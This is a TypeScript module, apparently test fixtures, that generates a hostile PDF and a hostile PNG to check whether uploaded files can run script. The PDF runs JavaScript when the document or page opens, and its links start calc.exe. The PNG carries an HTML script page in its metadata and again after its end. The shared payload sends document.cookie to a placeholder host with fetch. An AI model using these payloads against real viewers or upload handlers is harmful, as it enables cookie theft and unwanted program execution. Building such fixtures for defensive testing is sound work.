import { crc32, deflateSync } from 'node:zlib'

/** Script in each of the files. */
const ATTACK = 'globalThis.xssRan = true; fetch("https://exemplo.invalid/?" + document.cookie); alert(1)'

const content = 'BT /F1 28 Tf 60 760 Td (Comprovante com a\\347\\343o) Tj ET'

const objects = [
  '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /Annots [7 0 R 8 0 R] /AA << /O 6 0 R >> >>',
  `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
  '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>',
  `<< /S /JavaScript /JS (${ATTACK.replaceAll(/[()]/g, '\\$&')}) >>`,
  '<< /Type /Annot /Subtype /Link /Rect [0 420 595 842] /A << /S /URI /URI (javascript:globalThis.xssRan=true) >> >>',
  '<< /Type /Annot /Subtype /Link /Rect [0 0 595 420] /A << /S /Launch /F (calc.exe) >> >>',
]

/** A PDF with a script on every event, whose page is covered by links that run a script and start a program. */
export function hostilePdf(): Buffer {
  let pdf = '%PDF-1.7\n'
  const xrefRows = objects.map((object, index) => {
    const offset = pdf.length
    pdf += `${index + 1} 0 obj\n${object}\nendobj\n`
    return `${String(offset).padStart(10, '0')} 00000 n \n`
  })
  const table = `xref\n0 ${xrefRows.length + 1}\n0000000000 65535 f \n${xrefRows.join('')}`
  const end = `trailer << /Size ${xrefRows.length + 1} /Root 1 0 R >>\nstartxref\n${pdf.length}\n%%EOF\n`
  return Buffer.from(pdf + table + end, 'latin1')
}

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const lengthAndCrc = Buffer.alloc(8)
  lengthAndCrc.writeUInt32BE(data.length, 0)
  lengthAndCrc.writeUInt32BE(crc32(named), 4)
  return Buffer.concat([lengthAndCrc.subarray(0, 4), named, lengthAndCrc.subarray(4)])
}

/** A PNG of 8 × 8 pixels with an HTML page in its metadata and after its end. */
export function hostilePng(): Buffer {
  const page = Buffer.from(`<!doctype html><script>${ATTACK}</script><svg onload='${ATTACK}'>`)
  const head = Buffer.from([0, 0, 0, 8, 0, 0, 0, 8, 8, 2, 0, 0, 0])
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', head),
    chunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), page])),
    chunk('IDAT', deflateSync(Buffer.alloc(8 * 25))),
    chunk('IEND', Buffer.alloc(0)),
    page,
  ])
}
